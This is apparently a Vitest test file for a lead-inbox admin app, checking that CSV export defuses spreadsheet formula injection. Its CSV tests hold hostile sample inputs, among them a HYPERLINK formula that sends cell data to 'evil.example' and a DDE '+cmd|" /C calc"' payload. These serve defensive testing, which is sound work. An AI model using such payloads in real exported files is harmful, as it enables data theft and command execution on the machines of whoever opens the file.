import { describe, expect, it } from 'vitest'
import {
  greeting,
  internationalDigits,
  mailtoLink,
  staffNameFor,
  whatsappLink,
} from '@/lib/lead-inbox/contact-links'
import { adminTranslator } from '@/lib/admin-catalogue/admin-translator'
import { csvCell, csvRow } from '@/lib/lead-inbox/csv'
import { durationParts, growthText, shareText } from '@/lib/lead-inbox/format-figures'
import { leadFiltersQuery, parseLeadFilters } from '@/lib/lead-inbox/lead-filters'
import { stageTimesAfter, type StageTimes } from '@/lib/lead-inbox/pipeline'

const none: StageTimes = {
  contactedAt: null,
  qualifiedAt: null,
  viewingBookedAt: null,
  wonAt: null,
  lostAt: null,
}
const t1 = new Date('2026-01-01T10:00:00Z')
const t2 = new Date('2026-01-02T10:00:00Z')

describe('pipeline stage times', () => {
  it('reaches every stage up to the new one, keeping earlier times', () => {
    const viewing = stageTimesAfter({ ...none, contactedAt: t1 }, 'viewing', t2)
    expect(viewing).toEqual({
      contactedAt: t1,
      qualifiedAt: t2,
      viewingBookedAt: t2,
      wonAt: null,
      lostAt: null,
    })
  })

  it('undoes later stages when moved back, and Lost keeps what was reached', () => {
    const won = stageTimesAfter(none, 'won', t1)
    expect(stageTimesAfter(won, 'contacted', t2)).toEqual({ ...none, contactedAt: t1 })
    expect(stageTimesAfter(won, 'lost', t2)).toEqual({ ...won, wonAt: null, lostAt: t2 })
    expect(stageTimesAfter({ ...none, lostAt: t1 }, 'new', t2)).toEqual(none)
  })
})

describe('inbox views in the address', () => {
  it('reads what it understands and drops the rest', () => {
    const filters = parseLeadFilters({
      status: 'won',
      project: 'not-a-uuid',
      form: 'consultation',
      from: '2026-03-09',
      to: '2026-03-01',
      lang: 'fr',
      assignee: 'mine',
      clickId: '1',
      utm: ' google ',
      due: 'yesterday',
      q: ['0101', 'ignored'],
      sort: 'name',
      dir: 'asc',
      page: '-3',
    })
    expect(filters).toEqual({
      status: 'won',
      project: null,
      form: 'consultation',
      from: '2026-03-01',
      to: '2026-03-09',
      lang: null,
      assignee: 'mine',
      clickId: true,
      utmSource: 'google',
      due: null,
      q: '0101',
      sort: 'name',
      dir: 'asc',
      page: 1,
    })
  })

  it('writes a view back without its defaults, and round-trips', () => {
    const filters = parseLeadFilters({ q: 'منى', status: 'new', page: '2' })
    const query = leadFiltersQuery(filters)
    expect(query).toBe('q=%D9%85%D9%86%D9%89&status=new&page=2')
    expect(parseLeadFilters(Object.fromEntries(new URLSearchParams(query)))).toEqual(filters)
    expect(leadFiltersQuery(filters, { status: null, page: 1 })).toBe('q=%D9%85%D9%86%D9%89')
    const overdue = parseLeadFilters({ due: 'overdue', assignee: 'mine' })
    expect(leadFiltersQuery(overdue)).toBe('assignee=mine&due=overdue')
    expect(parseLeadFilters({ due: 'today' }).due).toBe('today')
  })
})

describe('CSV cells', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+20100', "'+20100"],
    ['-5', "'-5"],
    ['@cmd', "'@cmd"],
    ['\tx', `"'\tx"`],
    ['\rx', '"\'\rx"'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['منى عادل', 'منى عادل'],
  ])('%j is written as %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell)
  })

  it.each([
    ['+201012345678', '"=""+201012345678"""'],
    ['01012345678', '"=""01012345678"""'],
    ['+20 101 234 5678', '"=""+20 101 234 5678"""'],
    ['+44 (20) 7946-0958', '"=""+44 (20) 7946-0958"""'],
  ])('the phone %j is kept as text Excel shows whole: %j', (phone, cell) => {
    expect(csvCell({ phone })).toBe(cell)
  })

  it('a phone field never carries a formula of its own: anything but digits and separators is text', () => {
    const hostile = [
      '+20"&HYPERLINK("http://evil.example/?"&A1)&"',
      '=1+1',
      '0101234567")+cmd|" /C calc"!A0',
      '+20 100 SUM(A1:A9)',
      '\t+201012345678',
      '@SUM(1)',
      '-1012345678',
      '+2010123456789012345678901',
      '(+971) 50-123.4567',
      '٠١٠١٢٣٤٥٦٧٨',
    ]
    for (const phone of hostile) {
      const cell = csvCell({ phone })
      // Either no formula at all (neutralised, or plain text)…
      if (!cell.startsWith('"=')) {
        expect(cell, phone).not.toMatch(/^"?[=+\-@\t\r]/)
        continue
      }
      // …or a constant string: ="…" around digits and separators only.
      expect(cell, phone).toMatch(/^"=""\+?[\d ().-]+"""$/)
    }
    expect(csvCell({ phone: '=1+1' })).toBe("'=1+1")
    expect(csvCell({ phone: '+20"&HYPERLINK("x")&"' })).toBe(`"'+20""&HYPERLINK(""x"")&"""`)
    expect(csvCell({ phone: '٠١٠١٢٣٤٥٦٧٨' })).toBe('٠١٠١٢٣٤٥٦٧٨')
  })

  it.each([
    ['Semi;=HYPERLINK("http://evil.example")', `"Semi;'=HYPERLINK(""http://evil.example"")"`],
    ['a,+1', `"a,'+1"`],
    ['Tab\t-2+3', `"Tab\t'-2+3"`],
    ['line\n@SUM(1)', `"line\n'@SUM(1)"`],
    ['cr\r\r=1', `"cr\r'\r'=1"`],
    ['=a;=b', `"'=a;'=b"`],
    ['Semi;colon', '"Semi;colon"'],
    ['ok;"=1"', '"ok;""\'=1"""'],
  ])('a formula after a separator inside %j is neutralised: %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell)
  })

  it('no cell split at ";", ",", tab or a line break begins with a formula trigger', () => {
    const hostile = ['x;=1+1', 'x, =1', 'Semi;;+cmd', 'a\r\n-1', 'name\t\t@x', 'ok;"=1"']
    for (const value of hostile) {
      // Every piece a spreadsheet could make of the written line, quotes or not.
      const pieces = csvRow(['id', value, 'end']).split(/[;,\t\r\n]/)
      for (const piece of pieces) expect(piece.replace(/^"+/, ''), value).not.toMatch(/^[=+\-@]/)
    }
  })

  it('leaves numbers and empties alone and ends rows with CRLF', () => {
    expect(csvRow([-5, null, undefined, 0, 'x'])).toBe('-5,,,0,x\r\n')
  })
})

describe('contact links', () => {
  it('dials and messages the international number, greeting in the lead’s language', () => {
    expect(internationalDigits('+201012345678')).toBe('201012345678')
    expect(internationalDigits('010 1234 5678')).toBe('201012345678')
    expect(internationalDigits('+44 20 7946 0958')).toBe('442079460958')
    expect(internationalDigits('12')).toBeNull()
    const ar = greeting(adminTranslator('ar'), {
      fullName: 'منى عادل',
      staffName: 'Nadia',
      project: 'بالم فالي',
    })
    expect(ar).toBe(
      'مرحبًا منى، معك Nadia من مسار بخصوص استفسارك عن بالم فالي. متى يناسبك أن نتحدث؟',
    )
    // Signed with the staff member's name in the lead's language (English when no Arabic one).
    const names = { en: 'Nadia', ar: 'نادية' }
    expect(
      greeting(adminTranslator('ar'), {
        fullName: 'منى عادل',
        staffName: staffNameFor('ar', names),
        project: null,
      }),
    ).toBe('مرحبًا منى، معك نادية من مسار بخصوص استفسارك. متى يناسبك أن نتحدث؟')
    expect(staffNameFor('en', names)).toBe('Nadia')
    expect(staffNameFor('ar', { en: 'Nadia', ar: null })).toBe('Nadia')
    const en = greeting(adminTranslator('en'), {
      fullName: 'Mona Adel',
      staffName: 'Nadia',
      project: null,
    })
    expect(en).toBe(
      'Hello Mona, this is Nadia from Masar about your enquiry. When would be a good time to talk?',
    )
    expect(whatsappLink('201012345678', 'Hi there')).toBe(
      'https://wa.me/201012345678?text=Hi%20there',
    )
    expect(mailtoLink('m@example.com', adminTranslator('en'), 'Palm Valley')).toBe(
      'mailto:m@example.com?subject=Your%20enquiry%20about%20Palm%20Valley%20-%20Masar',
    )
    expect(decodeURIComponent(mailtoLink('m@example.com', adminTranslator('ar'), null))).toBe(
      'mailto:m@example.com?subject=استفسارك - مسار',
    )
  })
})

describe('dashboard figures', () => {
  it('formats growth, durations (both languages) and shares', () => {
    const [en, ar] = (['en', 'ar'] as const).map((locale) => {
      const t = adminTranslator(locale)
      return (minutes: number | null) => t('leads.duration', durationParts(minutes))
    })
    expect(en!(0.2)).toBe('under a minute')
    expect(en!(42)).toBe('42 min')
    expect(en!(190)).toBe('3 h 10 min')
    expect(en!(60 * 24 + 60)).toBe('1 day 1 h')
    expect(en!(60 * 24 * 2 + 240)).toBe('2 days 4 h')
    expect(en!(null)).toBe('—')
    expect(ar!(0)).toBe('أقل من دقيقة')
    expect(ar!(1)).toBe('دقيقة واحدة')
    expect(ar!(42)).toBe('42 دقيقة')
    expect(ar!(60 * 24 * 3)).toBe('3 أيام')
    expect(growthText(125, 100)).toBe('+25%')
    expect(growthText(90, 100)).toBe('-10%')
    expect(growthText(0, 0)).toBe('0%')
    expect(growthText(5, 0)).toBeNull()
    expect(shareText(1, 4)).toBe('25%')
    expect(shareText(1, 0)).toBe('—')
  })
})
